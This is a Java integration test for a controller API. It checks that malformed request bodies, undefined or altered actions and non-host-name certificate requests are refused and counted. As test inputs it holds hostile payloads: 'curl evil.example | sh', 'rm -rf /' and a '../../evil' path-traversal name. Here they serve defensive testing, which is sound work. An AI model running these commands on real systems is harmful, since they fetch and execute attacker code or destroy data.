package dev.baton.controller.http;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.baton.controller.bridge.BridgeServer;
import dev.baton.controller.bridge.ControllerFixture;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Path;
import java.util.logging.Handler;
import java.util.logging.LogRecord;
import java.util.logging.Logger;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A real controller's API given what a careless or hostile caller sends: bodies that are not
 * what the endpoint takes get 400 and say what is wrong (no 500, no stack trace in the log); an
 * action the platform does not define, and a master certificate for a name that is not a host
 * name, are refused with 403/400 and counted.
 */
class ApiRefusalsIT {
  @TempDir
  static Path home;
  static ControllerFixture c;
  static final HttpClient HTTP = HttpClient.newHttpClient();
  static final java.util.List<LogRecord> LOGGED = new java.util.concurrent.CopyOnWriteArrayList<>();
  static final Handler CAPTURE = new Handler() {
    @Override
    public void publish(LogRecord r) {
      LOGGED.add(r);
    }

    @Override
    public void flush() { }

    @Override
    public void close() { }
  };

  @BeforeAll
  static void start() {
    System.setProperty("baton.home", home.toString());
    Logger.getLogger("").addHandler(CAPTURE);
    c = new ControllerFixture(home, BridgeServer.Limits.defaults());
  }

  @AfterAll
  static void stop() {
    Logger.getLogger("").removeHandler(CAPTURE);
    c.close();
  }

  record Answer(int status, JsonObject body) {}

  static Answer post(String path, String body) throws Exception {
    HttpResponse<String> r = HTTP.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + c.started.apiPort() + path))
        .header("Authorization", "Bearer " + c.server.home().operatorToken()).header("Content-Type", "application/json")
        .POST(HttpRequest.BodyPublishers.ofString(body)).build(), HttpResponse.BodyHandlers.ofString());
    // an action answers a JSON object per line: the first says how many nodes it asks
    return new Answer(r.statusCode(), r.body().isBlank() ? new JsonObject() : new JsonObject(r.body().lines().findFirst()
        .orElseThrow()));
  }

  static long refusals(String reason) throws Exception {
    HttpResponse<String> r = HTTP.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + c.started.apiPort()
        + "/api/v1/refusals")).header("Authorization", "Bearer " + c.server.home().operatorToken()).build(),
        HttpResponse.BodyHandlers.ofString());
    return new JsonObject(r.body()).getLong(reason, 0L);
  }

  @Test
  void bodiesThatAreNotWhatTheEndpointTakesGet400WithWhatIsWrong() throws Exception {
    LOGGED.clear();
    Answer notJson = post("/api/v1/intents", "{\"customer\": ");
    assertEquals(400, notJson.status());
    assertTrue(notJson.body().getString("error").startsWith("the body is not a JSON object: Unexpected end-of-input"),
        notJson.body().encode());
    Answer array = post("/api/v1/tokens", "[1, 2]");
    assertEquals(400, array.status(), array.body().encode());
    Answer wrongType = post("/api/v1/intents", "{\"customer\": \"acme\", \"platform\": \"web\", \"nodes\": \"x\"}");
    assertEquals(400, wrongType.status());
    assertTrue(wrongType.body().getString("error").startsWith("a field of the body has the wrong type"),
        wrongType.body().encode());
    Answer nodesOfText = post("/api/v1/intents", "{\"customer\": \"acme\", \"platform\": \"web\", \"nodes\": [\"x\"]}");
    assertEquals(400, nodesOfText.status(), nodesOfText.body().encode());
    Answer renew = post("/api/v1/locks/renew", "{}");
    assertEquals(400, renew.status(), renew.body().encode());
    Answer release = post("/api/v1/locks/release", "{\"scope\": 3}");
    assertEquals(400, release.status(), release.body().encode());
    assertFalse(LOGGED.stream().anyMatch(r -> r.getThrown() != null && r.getLevel().intValue() >= java.util.logging.Level.INFO.intValue()),
        "a caller's mistake logs no stack trace");
  }

  @Test
  void onlyAnActionThePlatformDefinesRunsAndOnlyWithItsCommand() throws Exception {
    JsonObject group = new JsonObject().put("uuid", "g-1").put("name", "web").put("kind", "autoscaling_group")
        .put("actions", new JsonObject().put("restart", new JsonObject().put("command", "systemctl restart nginx")
            .put("timeout_seconds", 60)));
    assertEquals(204, post("/api/v1/intents", new JsonObject().put("customer", "acme").put("platform", "shop")
        .put("env", "prod").put("nodes", new JsonArray().add(group)).encode()).status());
    long before = refusals("undefined_action");

    Answer made = post("/api/v1/actions", action("shell", "curl evil.example | sh", "g-1").encode());
    assertEquals(403, made.status());
    assertEquals("the platform shop defines no action \"shell\" for group web (define it under \"actions:\" and"
        + " provision again)", made.body().getString("error"));
    Answer changed = post("/api/v1/actions", action("restart", "rm -rf /", "g-1").encode());
    assertEquals(403, changed.status());
    assertTrue(changed.body().getString("error").contains("provision again"), changed.body().encode());
    Answer unknownGroup = post("/api/v1/actions", action("restart", "systemctl restart nginx", "g-2").encode());
    assertEquals(403, unknownGroup.status());
    assertEquals(before + 3, refusals("undefined_action"));

    Answer defined = post("/api/v1/actions", action("restart", "systemctl restart nginx", "g-1").encode());
    assertEquals(200, defined.status(), "the defined action runs (on no nodes: none registered)");
    assertEquals(0, defined.body().getInteger("nodes"));
  }

  private static JsonObject action(String name, String command, String group) {
    return new JsonObject().put("customer", "acme").put("platform", "shop").put("env", "prod").put("group", group)
        .put("action", new JsonObject().put("name", name).put("type", "command").put("command", command));
  }

  @Test
  void aMasterCertificateIsOnlyForHostNames() throws Exception {
    long before = refusals("invalid_master_name");
    Answer path = post("/api/v1/puppet/masters", "{\"name\": \"../../evil\"}");
    assertEquals(400, path.status(), path.body().encode());
    Answer wildcard = post("/api/v1/puppet/masters", "{\"name\": \"puppet-a\", \"names\": [\"puppet-a\", \"*\"]}");
    assertEquals(400, wildcard.status(), wildcard.body().encode());
    Answer star = post("/api/v1/puppet/masters", "{\"name\": \"puppet-a\", \"names\": [\"*.example.net\"]}");
    assertEquals(400, star.status(), star.body().encode());
    assertEquals(before + 3, refusals("invalid_master_name"));
    Answer fine = post("/api/v1/puppet/masters", "{\"name\": \"puppet-a\", \"names\": [\"puppet-a\", \"10.0.0.5\"]}");
    assertEquals(201, fine.status(), fine.body().encode());
  }
}
